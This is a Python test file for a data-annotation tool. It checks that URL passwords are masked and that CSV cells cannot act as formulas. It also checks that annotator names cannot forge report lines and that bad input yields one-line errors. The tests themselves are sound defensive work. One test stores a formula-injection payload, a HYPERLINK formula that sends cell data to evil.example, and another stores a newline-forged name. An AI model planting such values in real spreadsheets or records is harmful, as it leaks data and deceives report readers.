"""Secrets and output: URL passwords masked everywhere through db.redact.mask_secrets, CSV cells neutralised against
formulas, names that cannot forge report lines, and one `error:` line (exit 2) where a traceback used to be."""

from __future__ import annotations

import csv
import logging
import sqlite3
import subprocess
import sys

import pytest
from sqlalchemy import update

from db.agreement import agreement
from db.annotations import record_annotation
from db.cli import main
from db.io import import_mnre
from db.label_export import export_labels
from db.models import Annotation, EntityPair
from db.redact import MaskSecretsFilter, csv_cell, mask_secrets, printable


@pytest.mark.parametrize(
    "text",
    [
        "redis://:s3cret@127.0.0.1:6379/0",
        "queue redis://worker:s3cret@host/0 is up",
        "postgresql+psycopg://ann:s3cret@db.example.org:5432/store",
        "'amqp://u:s3cret@h'",
        "postgresql://h/db?user=u&password=s3cret&sslmode=require",
    ],
    ids=["redis-no-user", "redis-in-text", "pg-driver", "quoted", "query-string"],
)
def test_every_url_password_is_masked(text):
    masked = mask_secrets(text)
    assert "s3cret" not in masked and "***" in masked
    assert mask_secrets("sqlite:///var/mrelens.db") == "sqlite:///var/mrelens.db"


def test_log_records_are_masked():
    record = logging.LogRecord(
        "w", logging.INFO, __file__, 1, "queue %s", ("redis://:s3cret@h:6379/0",), None
    )
    MaskSecretsFilter().filter(record)
    assert record.getMessage() == "queue redis://:***@h:6379/0"


def test_the_worker_never_prints_the_queue_password(monkeypatch, tmp_path):
    env = {
        "MRELENS_JOBS_URL": "bogus://worker:s3cret@127.0.0.1:6379/0",
        "DATABASE_URL": f"sqlite:///{tmp_path / 's.db'}",
    }
    done = subprocess.run(
        [sys.executable, "-m", "app.worker", "--threads", "1"],
        capture_output=True,
        text=True,
        env={**__import__("os").environ, **env},
        timeout=120,
    )
    assert done.returncode == 2 and "s3cret" not in done.stdout + done.stderr
    assert done.stderr.strip().startswith("error:") and "***" in done.stderr


def test_csv_cells_that_look_like_formulas_are_neutralised(sessions, mini_mnre, tmp_path):
    assert [csv_cell(v) for v in ("=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "ok", 5)] == [
        "'=1+1",
        "'+1",
        "'-1",
        "'@SUM(A1)",
        "'\tx",
        "'\rx",
        "ok",
        5,
    ]
    with sessions.begin() as session:
        import_mnre(session, mini_mnre)
        pair = session.query(EntityPair).order_by(EntityPair.id).first().id
        record_annotation(
            session,
            pair,
            status="corrected",
            label="None",
            annotator="ann",
            expected_revision=0,
            note='=HYPERLINK("http://evil.example/?x="&A1,"click")',
        )
    out = tmp_path / "labels.csv"
    with sessions() as session:
        export_labels(session, "csv", out)
    rows = list(csv.DictReader(out.open(encoding="utf-8")))
    notes = [row["note"] for row in rows if row["note"]]
    assert notes == ['\'=HYPERLINK("http://evil.example/?x="&A1,"click")']
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "@", "\t", "\r")), value


def test_a_name_with_a_newline_cannot_forge_an_agreement_line(sessions, mini_mnre):
    with sessions.begin() as session:
        import_mnre(session, mini_mnre)
        pair = session.query(EntityPair).order_by(EntityPair.id).first().id
        record_annotation(session, pair, status="accepted", annotator="ann", expected_revision=0)
        record_annotation(session, pair, status="accepted", annotator="eve", expected_revision=1)
        # a name stored before names were checked
        session.execute(
            update(Annotation)
            .where(Annotation.annotator == "eve")
            .values(annotator="eve\nKrippendorff's alpha (nominal): 1.000")
        )
    with sessions() as session:
        text = agreement(session).format()
    assert sum(line.startswith("Krippendorff's alpha") for line in text.splitlines()) == 1
    assert printable("a\nb\u2028c") == "a\\u000ab\\u2028c"


@pytest.mark.parametrize(
    "url",
    [
        "postgresql+psycopg://u:s3cret@localhost:abc/db",
        "postgresql+psycopg://u:s3cret@[::1/db",
        "postgresql+pg8000://u:s3cret@localhost/db",
        "postgresql+psycopg://u:s3cret@localhost:99999/db",
        "postgresql+psycopg//u:s3cret@host/db",
    ],
    ids=[
        "port-not-a-number",
        "unclosed-ipv6-bracket",
        "driver-not-installed",
        "port-out-of-range",
        "not-a-url",
    ],
)
def test_bad_database_urls_are_one_error_line(url, capsys):
    assert main(["--database-url", url, "agreement"]) == 2
    err = capsys.readouterr().err
    assert err.startswith("error:") and err.count("\n") == 1 and "s3cret" not in err


def test_a_far_time_with_an_offset_is_one_error_line(tmp_path, capsys):
    url = f"sqlite:///{tmp_path / 's.db'}"
    assert main(["--database-url", url, "init"]) == 0
    with pytest.raises(SystemExit) as stopped:
        main(
            [
                "--database-url",
                url,
                "export",
                "--format",
                "csv",
                "--out",
                str(tmp_path / "x.csv"),
                "--since",
                "9999-12-31T23:00-05:00",
            ]
        )
    assert stopped.value.code == 2
    err = capsys.readouterr().err
    assert err.startswith("error:") and "--since" in err and "Traceback" not in err


def test_a_corrupt_jobs_db_is_one_error_line_for_the_worker(tmp_path):
    jobs = tmp_path / "jobs.db"
    jobs.write_bytes(b"this is not a database" * 100)
    env = {"MRELENS_JOBS_URL": f"sqlite:///{jobs}", "DATABASE_URL": f"sqlite:///{tmp_path / 's.db'}"}
    assert main(["--database-url", env["DATABASE_URL"], "init"]) == 0
    done = subprocess.run(
        [sys.executable, "-m", "app.worker", "--threads", "1"],
        capture_output=True,
        text=True,
        env={**__import__("os").environ, **env},
        timeout=120,
    )
    assert done.returncode == 2, done.stderr
    assert (
        done.stderr.strip().startswith("error:")
        and "jobs.db" in done.stderr
        and "Traceback" not in done.stderr
    )
    with pytest.raises(sqlite3.DatabaseError):
        sqlite3.connect(jobs).execute("select 1 from sqlite_master").fetchall()


def test_job_records_never_keep_a_url_password(sessions):
    from db.jobs import create_job, finish_job, get_job, report_progress, start_job

    with sessions.begin() as session:
        job = create_job(session, "score", "ann", {}).id
        start_job(session, job)
        report_progress(session, job, log_lines=["connecting to redis://:s3cret@queue:6379/0"])
        finish_job(session, job, "failed", error="OperationalError: postgresql://u:s3cret@db/x refused")
    with sessions() as session:
        row = get_job(session, job)
        assert "s3cret" not in row.log_tail + row.error and "***" in row.error
